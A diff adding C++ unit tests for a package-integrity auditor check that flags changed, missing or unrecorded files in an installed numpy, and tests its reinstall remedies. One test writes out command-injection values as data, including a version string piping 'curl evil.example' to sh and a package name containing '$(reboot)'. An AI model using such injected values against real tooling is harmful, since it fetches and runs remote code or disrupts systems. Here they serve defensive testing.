@@ -1,0 +1,124 @@
+#include "tests/auditor/checks/check_under_test.h"
+#include "tests/support/made_up_subjects.h"
+
+using auditor::FileDeviation;
+using auditor::Severity;
+using auditor::Territory;
+using tests::findings_of;
+using tests::hits_of;
+
+namespace {
+
+auditor::Subject broken(std::vector<FileDeviation> failed, auditor::Subject subject = tests::wheel_numpy()) {
+  subject.intact.verdict = auditor::Verdict::no;
+  subject.intact.failed = std::move(failed);
+  return subject;
+}
+
+const FileDeviation changed{"numpy/_core/numeric.py", FileDeviation::Why::changed, Territory::package, true, "sha256 recorded ab, found cd"};
+const FileDeviation missing{"numpy/version.py", FileDeviation::Why::missing, Territory::package, true, ""};
+const FileDeviation importable{"numpy/evil.py", FileDeviation::Why::extra, Territory::package, true, ""};
+const FileDeviation extra{"numpy/NOTES", FileDeviation::Why::extra, Territory::package, false, ""};
+const FileDeviation outside{"../../../bin/f2py", FileDeviation::Why::missing, Territory::outside, false, ""};
+
+}  // namespace
+
+TEST(Intact1, EveryCaseHasItsSeverityAndWords) {
+  const struct {
+    FileDeviation deviation;
+    Severity severity;
+    const char* message;
+  } table[] = {
+      {changed, Severity::error, "1 file changed since installation, going by RECORD of numpy-2.3.5.dist-info: numpy/_core/numeric.py"},
+      {missing, Severity::error, "1 file missing, going by RECORD of numpy-2.3.5.dist-info: numpy/version.py"},
+      {importable, Severity::error, "1 file nobody recorded, which Python would import or the loader load: numpy/evil.py"},
+      {extra, Severity::note, "1 file nobody recorded, none of them importable: numpy/NOTES"},
+      {outside, Severity::note, "1 file outside the package folder changed, missing or added, going by RECORD of numpy-2.3.5.dist-info: ../../../bin/f2py"},
+  };
+  for (const auto& row : table) {
+    const auto findings = findings_of({broken({row.deviation})});
+    ASSERT_EQ(findings.size(), 1U) << row.message;
+    EXPECT_EQ(findings[0].severity, row.severity) << row.message;
+    EXPECT_EQ(findings[0].message, row.message);
+  }
+}
+
+TEST(Intact1, OneFindingACaseErrorsFirst) {
+  const auto findings = findings_of({broken({outside, changed, extra, missing, importable, changed})});
+  ASSERT_EQ(findings.size(), 5U);
+  EXPECT_EQ(findings[0].severity, Severity::error);
+  EXPECT_EQ(findings[4].severity, Severity::note);
+}
+
+TEST(Intact1, TheMessageNamesThreeAndEvidenceAll) {
+  std::vector<FileDeviation> many;
+  for (char c = 'a'; c <= 'h'; ++c) many.push_back({std::string("numpy/") + c + ".py", FileDeviation::Why::changed, Territory::package, true, ""});
+  const auto findings = findings_of({broken(many)});
+  ASSERT_EQ(findings.size(), 1U);
+  EXPECT_EQ(findings[0].message, "8 files changed since installation, going by RECORD of numpy-2.3.5.dist-info: numpy/a.py, numpy/b.py, numpy/c.py and 5 more");
+  EXPECT_EQ(findings[0].evidence.size(), 8U);
+}
+
+TEST(Intact1, AnAddedImportableFileCountsWhereverItLies) {
+  FileDeviation hook = importable;
+  hook.territory = Territory::outside;
+  const auto hits = hits_of("INTACT-1", {broken({hook})});
+  ASSERT_EQ(hits.size(), 1U);
+  EXPECT_EQ(hits[0].case_name, "added-importable");
+}
+
+TEST(Intact1, NotesStandBesideAYes) {
+  auditor::Subject subject = broken({outside});
+  subject.intact.verdict = auditor::Verdict::yes;
+  EXPECT_EQ(hits_of("INTACT-1", {subject}).size(), 1U);
+}
+
+TEST(Intact1, SilentWhereNothingIsKnownOrWrong) {
+  auditor::Subject unknown = broken({changed, importable});
+  unknown.intact.verdict = auditor::Verdict::unknown;
+  EXPECT_TRUE(hits_of("INTACT-1", {unknown}).empty());
+  EXPECT_TRUE(hits_of("INTACT-1", {tests::wheel_numpy(), tests::debian_numpy()}).empty());
+  EXPECT_TRUE(hits_of("INTACT-1", {broken({})}).empty());
+  EXPECT_TRUE(hits_of("INTACT-1", {}).empty());
+}
+
+TEST(Intact1, TheRemedyIsTheInstallers) {
+  EXPECT_NE(findings_of({broken({changed})})[0].remedy.find("pip install --force-reinstall --no-deps numpy==2.3.5"), std::string::npos);
+  const auto debian = findings_of({broken({changed}, tests::debian_numpy())})[0].remedy;
+  EXPECT_NE(debian.find("apt-get install --reinstall python3-numpy."), std::string::npos) << debian;
+  EXPECT_NE(debian.find("they guard against accident, not against intent"), std::string::npos);
+  auditor::Subject wheel = broken({changed});
+  wheel.installer = auditor::Installer::none;
+  wheel.path = "/tmp/numpy-2.3.5.whl";
+  EXPECT_NE(findings_of({wheel})[0].remedy.find("Don't install it"), std::string::npos);
+}
+
+TEST(Intact1, AHostileVersionNeverEntersACommand) {
+  auditor::Subject subject = broken({changed});
+  subject.version = "2.3.5; curl evil.example | sh";
+  EXPECT_NE(findings_of({subject})[0].remedy.find("--no-deps NAME==VERSION"), std::string::npos);
+  auditor::Subject package = broken({changed}, tests::debian_numpy());
+  package.package = "$(reboot) 1.0";
+  EXPECT_NE(findings_of({package})[0].remedy.find("--reinstall PACKAGE"), std::string::npos);
+  package.package = "--option 1.0";
+  EXPECT_NE(findings_of({package})[0].remedy.find("--reinstall PACKAGE"), std::string::npos);
+}
+
+TEST(Intact1, FingerprintsKnowTheFilesAndNotThePlace) {
+  auto moved = broken({changed});
+  moved.path = "/somewhere/else/numpy";
+  moved.environment = "venv /somewhere";
+  EXPECT_EQ(findings_of({broken({changed})})[0].fingerprint, findings_of({moved})[0].fingerprint);
+  auto other = changed;
+  other.path = "numpy/linalg/_linalg.py";
+  EXPECT_NE(findings_of({broken({changed})})[0].fingerprint, findings_of({broken({other})})[0].fingerprint);
+}
+
+TEST(Intact1, MalformedFacts) {
+  auditor::Subject subject = broken({{tests::hostile("x"), FileDeviation::Why::changed, Territory::package, true, tests::hostile("y")}, {}});
+  subject.intact.record.clear();
+  const auto findings = findings_of({subject});
+  ASSERT_EQ(findings.size(), 1U);
+  EXPECT_NE(findings[0].message.find("going by its record: ::error::x"), std::string::npos);
+  EXPECT_NE(findings[0].message.find("{names}"), std::string::npos) << "values are filled in once, never again";
+}
